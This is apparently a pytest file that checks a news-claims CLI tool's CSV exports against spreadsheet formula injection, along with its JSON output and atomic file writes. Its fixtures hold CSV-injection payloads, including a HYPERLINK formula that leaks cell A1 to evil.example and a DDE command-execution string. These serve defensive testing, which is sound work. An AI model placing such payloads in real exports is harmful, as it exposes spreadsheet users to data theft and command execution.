"""Exports a spreadsheet opens safely: no cell from article text or from reviewers starts a
formula (OWASP's CSV-injection rule) in any CSV the program writes; JSON keeps the text as is;
an output file appears only when complete."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from workbook.cli import main
from workbook.store import Store
from workbook.table import neutralise_cell

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"click") +Breaking: bridge closes'
ARTICLE = """=HYPERLINK("http://evil.example/?q="&A1,"click")
+Breaking: bridge closes
By @attacker | -Harbour Courier | May 3, 2024

Officials said the bridge would close on Monday. "The repairs cannot wait," the mayor said.

"=1+1 is the new toll," the council treasurer told reporters.
"""
REVIEWER, NOTE = "=cmd|' /C calc'!A0", "  @SUM(1+1) check this"


def cli(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def dangerous(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


@pytest.fixture
def hostile_db(tmp_path):
    article = tmp_path / "hostile.txt"
    article.write_text(ARTICLE, encoding="utf-8")
    db = tmp_path / "h.db"
    assert cli("load", article, "--db", db).exit_code == 0
    with Store(db) as store:
        claim_id = store.claims()["claim_id"].iloc[0]
        store.record_tag(claim_id, REVIEWER, "named", note=NOTE)
    return db


CSV_EXPORTS = {
    "table": ["table", "--format", "csv"],
    "articles": ["articles", "--format", "csv", "--text"],
    "review table": ["review", "table", "--format", "csv"],
    "groups": ["groups", "--min-outlets", "1", "--format", "csv"],
    "graph edges": ["graph", "--format", "edges"],
}


@pytest.mark.parametrize("name", CSV_EXPORTS)
def test_no_csv_export_holds_a_live_formula(hostile_db, tmp_path, name):
    out = tmp_path / f"{name.replace(' ', '_')}.csv"
    result = cli(*CSV_EXPORTS[name], "--db", hostile_db, "-o", out)
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert cells, "the export is empty"
    assert [c for c in cells if dangerous(c)] == []
    if name != "graph edges":  # the edge list names outlets, which here are hostile too
        assert any(c.startswith("'") for c in cells), "no hostile cell reached this export"


def test_hostile_cells_from_text_and_reviewers_are_prefixed(hostile_db, tmp_path):
    out = tmp_path / "review.csv"
    assert cli("review", "table", "--db", hostile_db, "--format", "csv", "-o", out).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {r["title"] for r in rows} == {"'" + HOSTILE_TITLE}
    assert {r["original_outlet"] for r in rows} == {"'-Harbour Courier"}
    tagged = [r for r in rows if r["final_tag"] == "named" and r["final_by"]]
    assert [(r["final_by"], r["final_note"]) for r in tagged] == [("'" + REVIEWER, "'" + NOTE)]


def test_json_keeps_the_text_exactly(hostile_db):
    rows = json.loads(cli("table", "--db", hostile_db, "--format", "json").output)
    assert {r["title"] for r in rows} == {HOSTILE_TITLE}
    assert {r["original_outlet"] for r in rows} == {"-Harbour Courier"}


@pytest.mark.parametrize("cell, expected", [
    ("=SUM(A1)", "'=SUM(A1)"), ("+1", "'+1"), ("-2", "'-2"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("\n+x", "'\n+x"), ("a=b", "a=b"), ("", ""), ("plain", "plain"),
])
def test_neutralise_cell_rule(cell, expected):
    assert neutralise_cell(cell) == expected


def test_failed_export_leaves_the_old_file_untouched(tmp_path):
    out = tmp_path / "claims.csv"
    out.write_text("yesterday's table\n", encoding="utf-8")
    result = cli("table", "--db", tmp_path / "typo.db", "-o", out)
    assert result.exit_code == 2
    assert out.read_text(encoding="utf-8") == "yesterday's table\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["claims.csv"]


def test_export_file_appears_complete(hostile_db, tmp_path):
    out = tmp_path / "t.csv"
    assert cli("table", "--db", hostile_db, "-o", out).exit_code == 0
    assert out.read_text(encoding="utf-8").count("\n") >= 3
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
